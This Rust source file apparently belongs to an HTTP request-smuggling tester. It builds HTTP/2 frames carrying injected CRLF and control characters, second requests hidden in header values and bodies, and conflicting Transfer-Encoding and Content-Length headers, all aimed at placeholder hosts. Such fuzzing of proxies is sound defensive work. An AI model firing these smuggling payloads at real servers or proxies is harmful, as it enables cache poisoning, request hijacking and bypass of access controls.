//! HTTP/2 requests that would be two, or other ones, once they are written as HTTP/1.

use std::collections::BTreeSet;

use crate::frames::{DATA, END_HEADERS, END_STREAM, HEADERS, block, frame, start};
use crate::smuggling::mutations::Mutation;

type Fields = Vec<(Vec<u8>, Vec<u8>)>;

const INJECTED: [&str; 14] = [
    "\r\n",
    "\n",
    "\r",
    "\0",
    "\r\nX: x",
    "\nX: x",
    "\r\n\r\nGET /s{id} HTTP/1.1\r\nHost: s.test\r\n\r\n",
    " HTTP/1.1\r\nHost: s.test\r\n\r\nGET /s{id}",
    "\r\nTransfer-Encoding: chunked",
    "\nContent-Length: 0",
    "\x0b",
    "\x7f",
    "\r\n ",
    "\u{85}",
];

/// All of them.
#[must_use]
pub fn all() -> Vec<Mutation> {
    let mut all = Vec::new();
    for injected in INJECTED {
        for place in 0..4 {
            let mut fields = base("GET");
            let (_, value) = &mut fields[place];
            value.extend(crate::octets::bytes(injected).unwrap_or_default());
            all.push(mutation("HTTP/2 pseudo-headers", &fields, None));
        }
        for (name, value) in [
            (format!("x{injected}"), "x".to_owned()),
            ("x".to_owned(), format!("x{injected}")),
            (format!("x{injected}x"), "x".to_owned()),
            ("x".to_owned(), format!("{injected}x")),
        ] {
            let mut fields = base("GET");
            fields.push((bytes(&name), bytes(&value)));
            all.push(mutation("HTTP/2 headers", &fields, None));
        }
    }
    for (name, value) in [
        ("transfer-encoding", "chunked"),
        ("transfer-encoding", "identity"),
        ("Transfer-Encoding", "chunked"),
        ("connection", "close"),
        ("connection", "transfer-encoding"),
        ("keep-alive", "x"),
        ("proxy-connection", "x"),
        ("upgrade", "h2c"),
        ("te", "chunked"),
        ("te", "gzip"),
        ("content-length", "0"),
        ("content-length", "5"),
        ("content-length", "500"),
        ("content-length", "+39"),
        ("content-length", "39, 39"),
        ("content-length", "x"),
        ("host", "s.test"),
        ("host", ""),
        (":path", "/s{id}"),
        (":method", "POST"),
        (":authority", "s.test"),
        (":x", "x"),
        ("", "x"),
        ("x y", "x"),
        ("x:", "x"),
        ("x ", "x"),
        (" x", "x"),
        ("X", "x"),
        ("x\u{e4}", "x"),
        ("content-length", ""),
        ("expect", "100-continue"),
        ("http2-settings", "AAMAAABkAARAAAAAAAIAAAAA"),
        ("transfer-encoding ", "chunked"),
        ("transfer_encoding", "chunked"),
        (":status", "200"),
        (":scheme", "https"),
    ] {
        for method in ["GET", "POST"] {
            let mut fields = base(method);
            fields.push((bytes(name), bytes(value)));
            all.push(mutation("HTTP/2 headers", &fields, None));
            for body in [
                "GET /s{id} HTTP/1.1\r\nHost: s.test\r\n\r\n",
                "0\r\n\r\nGET /s{id} HTTP/1.1\r\nHost: s.test\r\n\r\n",
            ] {
                all.push(mutation("HTTP/2 bodies", &fields, Some(body)));
            }
        }
    }
    for (place, value) in [
        (0, "GET /s{id} HTTP/1.1"),
        (0, ""),
        (0, "G T"),
        (1, ""),
        (1, "*"),
        (1, "m{id}"),
        (1, "http://s.test/m{id}"),
        (1, "/m{id} HTTP/1.1"),
        (1, "/m{id}#x"),
        (2, "x://s.test/"),
        (2, ""),
        (3, "u@a.test"),
        (3, ""),
        (3, "a.test/x"),
        (3, "a b"),
        (3, "a.test:x"),
    ] {
        let mut fields = base("GET");
        fields[place].1 = bytes(value);
        all.push(mutation("HTTP/2 pseudo-headers", &fields, None));
    }
    let mut known = BTreeSet::new();
    all.retain(|mutation: &Mutation| known.insert(mutation.bytes.clone()));
    all
}

fn base(method: &str) -> Fields {
    [
        (":method", method),
        (":path", "/m{id}"),
        (":scheme", "http"),
        (":authority", "a.test"),
    ]
    .map(|(name, value)| (bytes(name), bytes(value)))
    .to_vec()
}

fn bytes(text: &str) -> Vec<u8> {
    crate::octets::bytes(text).unwrap_or_default()
}

/// The id stands in the frames as `{id}` does in texts, with as many bytes: see [`crate::smuggling::run`].
fn mutation(kind: &'static str, fields: &Fields, body: Option<&str>) -> Mutation {
    let fields: Vec<_> = fields
        .iter()
        .map(|(name, value)| (with_id(name), with_id(value)))
        .collect();
    let fields: Vec<_> = fields
        .iter()
        .map(|(name, value)| (&name[..], &value[..]))
        .collect();
    let end = if body.is_some() { 0 } else { END_STREAM };
    let mut all = start();
    all.extend(frame(HEADERS, END_HEADERS | end, 1, &block(&fields)));
    if let Some(body) = body {
        all.extend(frame(DATA, END_STREAM, 1, &with_id(&bytes(body))));
    }
    Mutation {
        kind,
        bytes: all,
        is_h2: true,
    }
}

fn with_id(text: &[u8]) -> Vec<u8> {
    crate::octets::text(text)
        .replace("{id}", "12345")
        .chars()
        .map(|character| character as u8)
        .collect()
}
